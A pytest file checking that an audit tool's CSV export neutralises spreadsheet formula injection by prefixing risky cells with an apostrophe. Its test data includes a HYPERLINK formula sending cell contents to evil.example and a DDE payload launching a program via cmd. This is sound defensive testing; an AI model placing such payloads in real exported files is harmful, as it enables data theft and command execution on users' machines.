"""CSV files for people hold no spreadsheet formula: text that starts with =, +, -, @, a tab or
a carriage return gets a leading ', numbers stay numbers."""

from __future__ import annotations

import csv
import dataclasses
import math
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from coverage.audit import AuditResult, audit_case
from coverage.batch import batch_audit
from coverage.report import neutralise_formulas, write_outputs, write_spreadsheet_csv

DEMO = Path(__file__).parents[1] / "data" / "demo" / "case.toml"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"社区")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def read_rows(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # still UTF-8 with BOM for Excel
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_neutralise_formulas_changes_only_text_cells() -> None:
    frame = pd.DataFrame(
        {
            "name": [*FORMULAS, "普通社区", "'quoted", "a=b", None],
            "number": [-3.5, -2.0, 1.0, np.nan, 0.0, 5.0, 6.0, 7.0, 8.0, 9.0, -1.0],
            "count": [-1, 2, 3, 4, 5, 6, 7, 8, 9, 10, -11],
            "=evil column": ["x"] * 11,
        }
    )
    before = frame.copy()
    out = neutralise_formulas(frame)
    pd.testing.assert_frame_equal(frame, before)  # the input is not changed
    assert out["name"].tolist()[: len(FORMULAS)] == ["'" + f for f in FORMULAS]
    assert out["name"].tolist()[len(FORMULAS) : -1] == ["普通社区", "'quoted", "a=b"]
    assert pd.isna(out["name"].iloc[-1])
    assert out["number"].dtype == float and out["number"].iloc[0] == -3.5
    assert math.isnan(out["number"].iloc[3])
    assert out["count"].dtype == frame["count"].dtype and out["count"].iloc[-1] == -11
    assert list(out.columns) == ["name", "number", "count", "'=evil column"]


def test_string_dtype_and_mixed_object_columns() -> None:
    frame = pd.DataFrame(
        {
            "s": pd.array(["=1", "ok", None], dtype="string"),
            "mixed": pd.Series(["-x", -4, 2.5], dtype=object),
        }
    )
    out = neutralise_formulas(frame)
    assert out["s"].tolist()[:2] == ["'=1", "ok"]
    assert out["mixed"].tolist() == ["'-x", -4, 2.5]  # the numbers in it stay numbers


def test_write_spreadsheet_csv_keeps_negative_numbers(tmp_path: Path) -> None:
    path = write_spreadsheet_csv(
        pd.DataFrame({"name": ["-5", "=A1"], "value": [-5, -0.25]}), tmp_path / "t.csv"
    )
    rows = read_rows(path)
    assert [r["name"] for r in rows] == ["'-5", "'=A1"]
    assert [r["value"] for r in rows] == ["-5.0", "-0.25"]


@pytest.fixture(scope="module")
def demo() -> AuditResult:
    return audit_case(DEMO)


def test_communities_and_streets_csv(demo: AuditResult, tmp_path: Path) -> None:
    communities = demo.communities.copy()
    communities["name"] = [FORMULAS[i % len(FORMULAS)] for i in range(len(communities))]
    communities["median_m_shopping"] = -1.5  # a negative number stays a number
    streets = demo.streets.copy()
    streets["name"] = [FORMULAS[i % len(FORMULAS)] for i in range(len(streets))]
    evil = dataclasses.replace(demo, communities=communities, streets=streets)
    written = write_outputs(evil, tmp_path / "out", lang="en", map=False, service_areas=False)
    for key, table in (("communities_csv", communities), ("streets_csv", streets)):
        rows = read_rows(written[key])
        assert [r["name"] for r in rows] == ["'" + n for n in table["name"]], key
        for row in rows:  # no cell of the file starts a formula
            for cell in row.values():
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (key, cell)
                assert not cell.startswith("-") or _is_number(cell), (key, cell)
    rows = read_rows(written["communities_csv"])
    assert {r["median_m_shopping"] for r in rows} == {"-1.5"}
    assert rows[0]["population"] == f"{communities['population'].iloc[0]}"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_batch_summary_csv(tmp_path: Path) -> None:
    """A case that fails (its data files are not beside it): its name is still in the table."""
    folder = tmp_path / "cases" / "x"
    folder.mkdir(parents=True)
    config = folder / "case.toml"
    text = DEMO.read_text(encoding="utf-8")
    text = text.replace("成都中心城区（演示）", "=cmd|' /C calc'!A0")
    config.write_text(text, encoding="utf-8")
    result = batch_audit([config], tmp_path / "batch", cache_dir=tmp_path / "cache")
    assert result.failed
    assert result.summary_csv is not None
    rows = read_rows(result.summary_csv)
    assert rows[0]["name"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["status"] == "failed"
